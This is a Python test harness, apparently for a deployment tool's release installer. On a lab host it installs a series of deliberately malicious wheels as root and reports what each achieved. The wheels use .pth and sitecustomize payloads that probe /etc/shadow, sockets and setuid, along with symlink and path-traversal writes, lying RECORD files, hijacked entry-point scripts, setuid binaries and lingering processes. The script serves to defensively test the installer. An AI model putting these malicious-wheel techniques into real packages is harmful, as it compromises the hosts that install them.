"""Runs on a lab host, by Salt's Python: installs an enemy's wheels as a release is installed, and tells what came of it.

Prints JSON: for each kind of wheel ``error`` (of the installation) or ``report`` (what the enemy's code found out), and
what of the installed files is not as root left it.
"""

# ruff: noqa: E501, PTH116, PTH118, PTH208 - an enemy writes on one line, and looks at files as he likes

from __future__ import annotations

import importlib.util
import io
import json
import os
import shutil
import stat
import sys
import zipfile
from pathlib import Path
from typing import Any

REPOSITORY = Path("/srv/saltern")
sys.path.insert(0, str(REPOSITORY))  # for the package that the engine imports
HOME = Path("/srv/apps/demo/releases/hostile")
BUILD = Path("/var/lib/saltern/builds/demo/hostile")
PYTHON = os.path.realpath("/usr/bin/python3").removeprefix("/usr/bin/python")
SITE = f"lib/python{PYTHON}/site-packages"

# Runs in each interpreter that starts with the package's .pth files.
SPY = r"""
import glob, json, os, socket, sys
def tried(work):
    try:
        return repr(work())[:200]
    except BaseException as error:
        return f"{type(error).__name__}: {error}"
def connect(family, where):
    with socket.socket(family) as client:
        client.settimeout(2)
        client.connect(where)
report = {
    "uid": os.getuid(), "groups": os.getgroups(), "argv": sys.argv[:1], "ppid": os.getppid(),
    "reads": {path: tried(lambda: os.listdir(path) if os.path.isdir(path) else len(open(path, "rb").read())) for path in PLACES},
    "writes": {path: tried(lambda: open(path, "w").close()) for path in WRITES},
    "connects": {where: tried(lambda: connect(socket.AF_UNIX, where)) for where in SOCKETS},
    "networks": {str(where): tried(lambda: connect(socket.AF_INET, tuple(where))) for where in NETWORKS},
    "setuid": tried(lambda: os.setuid(0)), "processes": sorted({os.stat("/proc/" + p).st_uid for p in os.listdir("/proc") if p.isdigit()}),
}
if os.getuid() == 0:
    open("/root/pwned", "a").write(str(sys.argv))
with open(os.path.join(sys.prefix, "report.json"), "a") as out:
    out.write(json.dumps(report) + chr(10))
"""
PLACES = ["/etc/saltern", "/etc/shadow", "/etc/machine-id", "/root", "/home", "/srv/saltern/site", "/srv/apps", "/srv/apps/demo/releases",
          "/var/lib/apps/demo", "/var/lib/saltern/builds", "/var/lib/saltern/builds/bugsink", "/run/saltern", "/var/log/dpkg.log"]  # fmt: skip
WRITES = ["/srv/apps/demo/releases/x", "/srv/apps/demo/releases/hostile/env", "/var/lib/apps/demo/x", "/usr/x", "/etc/x",
          "/var/lib/saltern/builds/demo/hostile/x"]  # fmt: skip
SOCKETS = [
    "/run/dbus/system_bus_socket",
    "/run/systemd/private",
    "/run/postgresql/.s.PGSQL.5432",
    "/run/systemd/notify",
]
NETWORKS = [["127.0.0.1", 22], ["127.0.0.1", 5432], ["192.0.2.1", 80]]


def wheel(
    files: dict[str, str], name: str = "evil", links: dict[str, str] | None = None, modes: dict[str, int] | None = None
) -> bytes:
    """Make a wheel; its RECORD has no hashes, which installers bear."""
    inside = {
        f"{name}-1.0.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{name}-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{name}.py": "",
        **files,
    }
    listed = [*inside, *(links or {})]
    inside.setdefault(
        f"{name}-1.0.dist-info/RECORD", "".join(f"{one},,\n" for one in [*listed, f"{name}-1.0.dist-info/RECORD"])
    )
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w") as archive:
        for one, text in inside.items():
            about = zipfile.ZipInfo(one)
            about.external_attr = (stat.S_IFREG | (modes or {}).get(one, 0o644)) << 16
            archive.writestr(about, text)
        for one, target in (links or {}).items():
            about = zipfile.ZipInfo(one)
            about.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(about, target)
    return raw.getvalue()


def pth(code: str) -> str:
    return f"import os; exec({code!r})\n"


def spy() -> str:
    names = {"PLACES": PLACES, "WRITES": WRITES, "SOCKETS": SOCKETS, "NETWORKS": NETWORKS}
    return "".join(f"{name} = {value!r}\n" for name, value in names.items()) + SPY


def wheels() -> dict[str, bytes]:
    """Each kind of an enemy's wheel, by what it does."""
    up = "../" * 12
    info = "evil-1.0.dist-info"
    return {
        "a .pth that looks round": wheel({"evil.pth": pth(spy())}),
        "a sitecustomize that looks round": wheel({"sitecustomize.py": spy(), "usercustomize.py": spy()}),
        "a .pth that makes a link": wheel(
            {
                "evil.pth": pth(
                    "import sys; os.path.lexists(sys.prefix+'/l') or os.symlink('/etc/shadow', sys.prefix + '/l')"
                )
            }
        ),
        "a .pth that makes a link to a folder": wheel(
            {
                "evil.pth": pth(
                    "import sys; os.path.lexists(sys.prefix+'/l') or os.symlink('../../../..', sys.prefix + '/l')"
                )
            }
        ),
        "a .pth that makes a pipe": wheel(
            {"evil.pth": pth("import sys; os.path.lexists(sys.prefix+'/p') or os.mkfifo(sys.prefix + '/p')")}
        ),
        "a .pth that fills the source": wheel(
            {
                "evil.pth": pth(
                    "import sys; d = os.path.dirname(sys.prefix) + '/src'; os.path.lexists(d + '/conf') or os.symlink('/etc', d + '/conf')"
                )
            }
        ),
        "a .pth that gives its files away": wheel(
            {
                "evil.pth": pth(
                    "import sys; p = sys.prefix + '/open'; open(p, 'w').close(); os.chmod(p, 0o4777) if 0 else os.chmod(p, 0o777); os.chmod(sys.prefix, 0o777)"
                )
            }
        ),
        "a .pth that stays": wheel(
            {"evil.pth": pth("os.fork() or (os.setsid(), os.close(1), os.close(2), __import__('time').sleep(600))")}
        ),
        "a file above": wheel({f"{up}etc/evil-above": "x"}),
        "a file above by its data": wheel(
            {f"evil-1.0.data/data/{up}etc/evil-data": "x", f"evil-1.0.data/scripts/{up}etc/evil-script": "#!python\n"}
        ),
        "an absolute file": wheel({"/etc/evil-absolute": "x"}),
        "a RECORD that lies": wheel({f"{info}/RECORD": f"{up}etc/passwd,,\n/etc/shadow,,\nevil.py,,\n"}),
        "a script above": wheel(
            {
                f"{info}/entry_points.txt": f"[console_scripts]\n{up}etc/evil-entry = evil:main\n/etc/evil-entry2 = evil:main\n"
            }
        ),
        "scripts in the place of ours": wheel(
            {f"{info}/entry_points.txt": "[console_scripts]\npython = evil:main\nactivate = evil:main\n"}
        ),
        "a link in the wheel": wheel({}, links={"link": "/etc/shadow", "folder": "/etc"}),
        "a set-user-ID program": wheel(
            {"evil-1.0.data/scripts/suid": "#!/bin/sh\n"}, modes={"evil-1.0.data/scripts/suid": 0o6777}
        ),
    }


def load(folder: str, name: str) -> Any:
    spec = importlib.util.spec_from_file_location(name, REPOSITORY / folder / f"{name}.py")
    module = importlib.util.module_from_spec(spec)  # type: ignore[arg-type]
    spec.loader.exec_module(module)  # type: ignore[union-attr]
    return module


def install(content: bytes) -> dict[str, Any]:
    """Install a release of one wheel by the engine's own function, as root."""
    for path in (HOME, BUILD):
        shutil.rmtree(path, ignore_errors=True)
    (BUILD / "wheels").mkdir(parents=True)
    HOME.mkdir()
    digest = __import__("hashlib").sha256(content).hexdigest()
    (BUILD / "wheels/evil-1.0-py3-none-any.whl").write_bytes(content)
    (BUILD / "requirements.txt").write_text(f"evil==1.0 --hash=sha256:{digest}\n")
    (BUILD / "bom.json").write_text("{}")
    os.system(f"cd / && tar -czf {BUILD}/src.tar.gz -C {REPOSITORY}/demo manage.py")
    for path in (BUILD, BUILD / "wheels"):
        path.chmod(0o700)
    sys.path.insert(0, str(REPOSITORY))
    from saltern.release import installed, staging

    installed.manifests = lambda app: []  # type: ignore[assignment]
    with staging._readable_to_all():
        staging._install("demo", HOME, BUILD, f"x {PYTHON}")
    report = HOME / "venv/report.json"
    return {"report": [json.loads(line) for line in report.read_text().splitlines()] if report.is_file() else []}


def odd(root: Path) -> list[str]:
    """Files that are not root's, that others may write to, or that have powers."""
    found = []
    for folder, folders, files in os.walk(root):
        for name in [*folders, *files]:
            about = os.lstat(os.path.join(folder, name))
            if about.st_uid or about.st_gid or (not stat.S_ISLNK(about.st_mode) and about.st_mode & 0o7022):
                found.append(os.path.join(folder, name))
    return found


def main() -> None:
    outside = {path: Path(path).read_bytes() for path in ("/etc/passwd", "/etc/shadow")}
    found: dict[str, Any] = {}
    for kind, content in wheels().items():
        try:
            about = install(content)
            about["odd"] = odd(HOME)
        except Exception as error:
            about = {"error": f"{type(error).__name__}: {error}"}
        about["left"] = os.popen("ps -u pkg-demo -o pid= 2>/dev/null || true").read().split() or [
            entry for entry in os.listdir("/proc") if entry.isdigit() and _uid(entry) == _number("pkg-demo")
        ]
        about["made"] = [str(path) for path in Path("/etc").glob("evil*")]
        about["harmed"] = [path for path, text in outside.items() if Path(path).read_bytes() != text]
        found[kind] = about
    for path in (HOME, BUILD):
        shutil.rmtree(path, ignore_errors=True)
    print(json.dumps(found))


def _uid(pid: str) -> int:
    try:
        return os.stat(f"/proc/{pid}").st_uid
    except FileNotFoundError:
        return -1


def _number(name: str) -> int:
    import pwd

    try:
        return pwd.getpwnam(name).pw_uid
    except KeyError:
        return -2


if __name__ == "__main__":
    sys.exit(main())
